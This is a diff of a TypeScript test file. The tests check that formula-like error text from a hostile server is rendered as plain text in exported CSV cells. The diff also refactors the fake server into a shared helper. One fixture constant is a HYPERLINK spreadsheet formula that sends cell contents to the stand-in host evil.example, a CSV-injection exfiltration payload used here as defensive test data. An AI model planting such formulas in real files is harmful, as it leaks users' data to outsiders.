@@ -5,8 +5,6 @@
 // sandbox, and against a hostile server whose 400 answer carries a formula as its error text.
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import * as http from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { createClient, createCustomersInBatches } from '../../../src/api';
 import { parseCsv } from '../../../src/domain/csv';
 import {
@@ -20,6 +18,7 @@ import {
 import { guardFormula, isFormulaLike } from '../../../src/domain/formulaGuard';
 import { reconciliationCsvLines, type ExportLabels } from '../../../src/reconciliation/export';
 import type { ReconciliationReport } from '../../../src/reconciliation/report';
+import { replyJson, startLoopbackServer, type LoopbackServer } from '../../support/loopbackServer';
 import { withSandbox } from '../../support/sandbox';
 
 const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2;"Ayrıntı")';
@@ -55,16 +54,8 @@ async function importOver(baseUrl: string, key: string, csv: string): Promise<{ 
 }
 
 /** A server that refuses every customer list with a 400 whose text is a formula. */
-async function hostileServer(description: string): Promise<{ url: string; close(): Promise<void> }> {
-  const server = http.createServer((req, res) => {
-    req.resume();
-    req.on('end', () => {
-      res.writeHead(400, { 'Content-Type': 'application/json' });
-      res.end(JSON.stringify({ Errors: [{ Code: 400, Description: description, Detail: '' }] }));
-    });
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, close: () => new Promise((resolve) => server.close(() => resolve())) };
+function hostileServer(description: string): Promise<LoopbackServer> {
+  return startLoopbackServer((_req, res) => replyJson(res, 400, { Errors: [{ Code: 400, Description: description, Detail: '' }] }));
 }
 
 test("a server's =HYPERLINK error text reaches the rejected file's Reason cell as text, not a formula", async () => {
